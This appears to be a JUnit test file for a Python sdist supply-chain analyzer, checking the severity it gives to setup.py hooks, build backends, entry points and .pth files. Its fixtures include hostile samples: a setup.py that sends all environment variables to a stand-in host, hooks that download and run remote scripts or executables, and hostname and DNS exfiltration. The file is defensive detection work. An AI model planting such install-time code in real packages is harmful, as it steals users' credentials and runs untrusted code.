package dev.gatehouse.analyzer.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Analysis;
import dev.gatehouse.analyzer.AnalysisLimits;
import dev.gatehouse.analyzer.Analyzer;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.SdistFixture;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What runs when pip builds an sdist: setup.py, cmdclass, setup_requires, pyproject build backends. */
class SdistAnalyzerTest {
  @TempDir Path tmp;

  private final Analyzer analyzer = new Analyzer(AnalysisLimits.defaults());

  private static final String PACKAGE = "def greet():\n    return 'hi'\n";

  private Analysis analyze(Path sdist) throws IOException {
    return analyzer.analyze(sdist, ArtifactKind.SDIST);
  }

  private static List<CodeFinding> by(Analysis a, Trigger trigger) {
    return a.codeFindings().stream().filter(f -> f.trigger() == trigger).toList();
  }

  @Test
  void aPlainSetupScriptWithLiteralArgumentsIsLow() throws IOException {
    Analysis a = analyze(SdistFixture.named("plain", "1.0")
        .file("setup.py", """
            from setuptools import setup, find_packages

            setup(
                name='plain',
                version='1.0',
                packages=find_packages(),
                install_requires=['requests>=2'],
                entry_points={'console_scripts': ['plain = plain:greet']},
            )
            """)
        .file("plain/__init__.py", PACKAGE).tarGz(tmp));
    assertThat(a.findings()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.summary()).isEqualTo("plain-1.0/setup.py runs when pip builds this sdist; it reaches nothing notable beyond setup()");
    });
  }

  @Test
  void aSetupScriptThatReadsItsReadmeAndExecsItsVersionFileIsLow() throws IOException {
    Analysis a = analyze(SdistFixture.named("usual", "2.0")
        .file("setup.py", """
            import io
            import os
            from setuptools import setup

            here = os.path.abspath(os.path.dirname(__file__))
            about = {}
            with open(os.path.join(here, 'usual', '__version__.py')) as f:
                exec(f.read(), about)
            with io.open(os.path.join(here, 'README.md'), encoding='utf-8') as f:
                long_description = f.read()

            if __name__ == '__main__':
                setup(name='usual', version=about['__version__'], long_description=long_description)
            """)
        .file("usual/__version__.py", "__version__ = '2.0'\n")
        .file("usual/__init__.py", PACKAGE).file("README.md", "# usual\n").zip(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
  }

  @Test
  void aVersionFileRunByTheSetupScriptIsAnalyzedAsPartOfIt() throws IOException {
    Analysis a = analyze(SdistFixture.named("sneaky", "1.0")
        .file("setup.py", "from setuptools import setup\nexec(open('sneaky/_version.py').read())\nsetup(name='sneaky')\n")
        .file("sneaky/_version.py", "import os\n__version__ = '1.0'\nos.system('id')\n").tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    });
  }

  /** The 2022 ctx incident: environment variables sent to an outside host when the package was built. */
  @Test
  void ctxStyleSetupScriptSendingTheEnvironmentIsCritical() throws IOException {
    Analysis a = analyze(SdistFixture.named("ctx", "0.2.2")
        .file("setup.py", """
            import os, base64, json
            from urllib import request
            from setuptools import setup

            env = dict(os.environ)
            blob = base64.b64encode(json.dumps(env).encode()).decode()
            request.urlopen('https://anti-theft.c.invalid/hacked/' + blob)

            setup(name='ctx', version='0.2.2', py_modules=['ctx'])
            """)
        .file("ctx.py", PACKAGE).tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.ENVIRONMENT_READ);
      assertThat(f.evidence().path()).isEqualTo("ctx-0.2.2/setup.py");
    });
  }

  @Test
  void anInstallCommandOverrideIsAPostInstallHookAtLeastMedium() throws IOException {
    Analysis a = analyze(SdistFixture.named("hooked", "1.0")
        .file("setup.py", """
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
                    self.announce('installed')

            setup(name='hooked', cmdclass={'install': PostInstall})
            """).tarGz(tmp));
    List<CodeFinding> setup = by(a, Trigger.SETUP_SCRIPT);
    assertThat(setup).hasSize(2);
    assertThat(setup).filteredOn(f -> f.evidence().location().equals("cmdclass.install")).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).isEqualTo("hooked-1.0/setup.py replaces the install command with PostInstall, which runs "
          + "during pip install; it reaches nothing notable");
    });
  }

  @Test
  void anInstallOverrideThatDownloadsAndRunsAShellScriptIsHigh() throws IOException {
    Analysis a = analyze(SdistFixture.named("dropper", "1.0")
        .file("setup.py", """
            import subprocess, urllib.request
            from setuptools import setup
            from setuptools.command.develop import develop

            cmds = {}

            class Hook(develop):
                def run(self):
                    script = urllib.request.urlopen('https://c.invalid/x.sh').read()
                    subprocess.run(['sh', '-c', script])
                    develop.run(self)

            cmds['develop'] = Hook
            setup(name='dropper', cmdclass=cmds)
            """).tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).filteredOn(f -> f.evidence().location().equals("cmdclass.develop"))
        .singleElement().satisfies(f -> {
          assertThat(f.severity()).isEqualTo(Severity.HIGH);
          // the fetched script handed to sh is code fetched from the network and run
          assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK,
              Capability.DYNAMIC_CODE);
        });
  }

  @Test
  void aBuildExtensionOverrideThatReachesNothingIsLow() throws IOException {
    Analysis a = analyze(SdistFixture.named("ext", "1.0")
        .file("setup.py", """
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext

            class BuildExt(build_ext):
                def build_extensions(self):
                    for e in self.extensions:
                        e.extra_compile_args = ['-O2']
                    build_ext.build_extensions(self)

            setup(name='ext', ext_modules=[Extension('ext._c', ['ext/_c.c'])], cmdclass={'build_ext': BuildExt})
            """).tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
  }

  @Test
  void setupRequiresFromTheIndexIsInfoAndFromAUrlIsMedium() throws IOException {
    Analysis fromIndex = analyze(SdistFixture.named("req", "1.0")
        .file("setup.py", "from setuptools import setup\nsetup(name='req', setup_requires=['cython>=3', 'numpy'])\n")
        .tarGz(tmp));
    assertThat(by(fromIndex, Trigger.SETUP_SCRIPT)).filteredOn(f -> f.evidence().location().equals("setup_requires"))
        .singleElement().satisfies(f -> {
          assertThat(f.severity()).isEqualTo(Severity.INFO);
          assertThat(f.summary()).contains("cython>=3, numpy");
        });
    Analysis fromUrl = analyze(SdistFixture.named("requrl", "1.0")
        .file("setup.py", "from setuptools import setup\nsetup(name='requrl')\n")
        .file("setup.cfg", "[options]\nsetup_requires =\n    helper @ https://files.c.invalid/helper-1.0.tar.gz\n")
        .tarGz(tmp));
    assertThat(by(fromUrl, Trigger.SETUP_SCRIPT)).filteredOn(f -> f.evidence().location().equals("setup_requires"))
        .singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
  }

  @Test
  void anInTreeBuildBackendIsMediumAndItsHooksAreAnalyzed() throws IOException {
    Analysis quiet = analyze(SdistFixture.named("intree", "1.0")
        .file("pyproject.toml", """
            [build-system]
            # the backend ships with the project
            requires = []
            build-backend = "backend"
            backend-path = ["_build"]
            """)
        .file("_build/backend.py", "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
            + "    return 'intree-1.0-py3-none-any.whl'\n")
        .file("intree/__init__.py", PACKAGE).tarGz(tmp));
    assertThat(by(quiet, Trigger.BUILD_BACKEND)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.evidence().path()).isEqualTo("intree-1.0/pyproject.toml");
      assertThat(f.summary()).startsWith("pip builds this sdist with backend, an in-tree build backend");
    });
    Analysis loud = analyze(SdistFixture.named("intreeloud", "1.0")
        .file("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'backend:hooks'\nbackend-path = ['.']\n")
        .file("backend.py", "import os, socket\ndef build_wheel(d, c=None, m=None):\n"
            + "    socket.gethostbyname(os.environ['USER'] + '.c.invalid')\n    os.system('id')\n").tarGz(tmp));
    assertThat(by(loud, Trigger.BUILD_BACKEND)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.DNS);
    });
  }

  @Test
  void aBackendFromTheIndexIsRecordedAtInfo() throws IOException {
    Analysis a = analyze(SdistFixture.named("hatched", "1.0")
        .file("pyproject.toml", "[build-system]\nrequires = [\"hatchling>=1.20\"]\nbuild-backend = \"hatchling.build\"\n")
        .file("hatched/__init__.py", PACKAGE).tarGz(tmp));
    assertThat(a.findings()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.INFO);
      assertThat(f.summary()).isEqualTo("pip builds this sdist with hatchling.build, installed first from the index: hatchling>=1.20");
    });
  }

  @Test
  void oldBzip2SdistsAreReadToo() throws IOException {
    Analysis a = analyze(SdistFixture.named("old", "0.1")
        .file("setup.py", "import os\nfrom distutils.core import setup\nos.system('echo hi')\nsetup(name='old')\n")
        .tarBz2(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).singleElement()
        .satisfies(f -> assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN));
  }

  @Test
  void aPthFileAnSdistWouldInstallIsAStartupHook() throws IOException {
    Analysis a = analyze(SdistFixture.named("pthy", "1.0")
        .file("setup.py", "from setuptools import setup\nsetup(name='pthy', data_files=[('', ['pthy.pth'])])\n")
        .file("pthy.pth", "import os; os.system('id')\n").tarGz(tmp));
    assertThat(by(a, Trigger.STARTUP_HOOK)).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
  }

  /** Old setup scripts (requests 2.x) carry a maintainer's `setup.py publish` shortcut pip never triggers. */
  @Test
  void aMaintainerShortcutGuardedByItsCommandLineIsNotRunByPip() throws IOException {
    Analysis a = analyze(SdistFixture.named("shortcut", "1.0")
        .file("setup.py", """
            import os, sys
            from setuptools import setup

            if sys.argv[-1] == 'publish':
                os.system('python setup.py sdist bdist_wheel')
                os.system('twine upload dist/*')
                sys.exit()

            if 'install' in sys.argv:
                os.system('echo installing')

            setup(name='shortcut')
            """).tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
      assertThat(f.evidence().location()).isEqualTo("line 10");
    });
  }

  /** psycopg2-style: a build_ext override that asks pg_config for paths spawns a process at build time. */
  @Test
  void aBuildOverrideThatRunsAToolIsMediumForReview() throws IOException {
    Analysis a = analyze(SdistFixture.named("pgish", "2.9")
        .file("setup.py", """
            import subprocess
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext

            def get_pg_config(kind):
                p = subprocess.Popen(['pg_config', '--' + kind], stdout=subprocess.PIPE)
                return p.stdout.readline().strip()

            class pg_build_ext(build_ext):
                def finalize_options(self):
                    build_ext.finalize_options(self)
                    self.include_dirs.append(get_pg_config('includedir'))

            setup(name='pgish', ext_modules=[Extension('pgish._c', ['c.c'])], cmdclass={'build_ext': pg_build_ext})
            """).tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).filteredOn(f -> f.evidence().location().equals("cmdclass.build_ext"))
        .singleElement().satisfies(f -> {
          assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
          assertThat(f.summary()).contains("spawns a process (subprocess.Popen at pgish-2.9/setup.py:6)");
        });
  }

  private static final String DROPPER = """
      import subprocess, tempfile, urllib.request
      def main():
          exe = tempfile.gettempdir() + "/h"
          urllib.request.urlretrieve("https://d.example.invalid/h", exe)
          subprocess.Popen([exe])
      """;

  @Test
  void aPytestPluginDeclaredInSetupCfgIsFollowedIntoItsModule() throws IOException {
    Analysis a = analyze(SdistFixture.named("cfgplug", "1.0")
        .file("setup.py", "from setuptools import setup\nsetup()\n")
        .file("setup.cfg", "[metadata]\nname = cfgplug\n\n[options.entry_points]\npytest11 =\n    p = cfgplug.plugin\n")
        .file("cfgplug/__init__.py", "")
        .file("cfgplug/plugin.py", "import requests, socket\nrequests.post('https://r.example.invalid', data=socket.gethostname())\n")
        .tarGz(tmp));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
      assertThat(f.evidence().path()).isEqualTo("cfgplug-1.0/setup.cfg");
      assertThat(f.capabilities()).contains(Capability.NETWORK);
    });
  }

  @Test
  void aConsoleScriptDeclaredInPyprojectThatDownloadsAndRunsAFileIsReported() throws IOException {
    Analysis a = analyze(SdistFixture.named("tomlcli", "1.0")
        .file("pyproject.toml", "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n"
            + "[project]\nname = \"tomlcli\"\n[project.scripts]\ntomlcli = \"tomlcli.cli:main\"\n")
        .file("tomlcli/__init__.py", "")
        .file("tomlcli/cli.py", DROPPER)
        .tarGz(tmp));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
      assertThat(f.severity()).isGreaterThanOrEqualTo(Severity.HIGH);
      assertThat(f.summary()).contains("the command tomlcli runs tomlcli.cli:main");
    });
  }

  @Test
  void entryPointsBoundToANameInSetupPyAreFollowedAndAPlainOneIsNotReported() throws IOException {
    Analysis a = analyze(SdistFixture.named("eps", "1.0")
        .file("setup.py", """
            from setuptools import setup
            EPS = {"console_scripts": ["eps = eps.cli:main", "eps-quiet = eps:greet"]}
            setup(name="eps", entry_points=EPS)
            """)
        .file("eps/__init__.py", PACKAGE)
        .file("eps/cli.py", DROPPER)
        .tarGz(tmp));
    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement()
        .satisfies(f -> assertThat(f.summary()).contains("the command eps runs eps.cli:main"));
  }

  @Test
  void aSetupScriptThatPutsAFolderOnSysPathIsFollowedIntoItsModules() throws IOException {
    Analysis a = analyze(SdistFixture.named("libdir", "1.0")
        .file("setup.py", """
            import os, sys
            sys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))
            from setuptools import setup
            from helpers import main
            main()
            setup(name="libdir", package_dir={"": "lib"})
            """)
        .file("lib/libdir/__init__.py", "")
        .file("lib/helpers.py", DROPPER)
        .tarGz(tmp));
    assertThat(by(a, Trigger.SETUP_SCRIPT)).anySatisfy(f -> {
      assertThat(f.capabilities()).contains(Capability.NETWORK, Capability.PROCESS_SPAWN);
      assertThat(f.summary()).contains("lib/helpers.py");
    });
  }
}
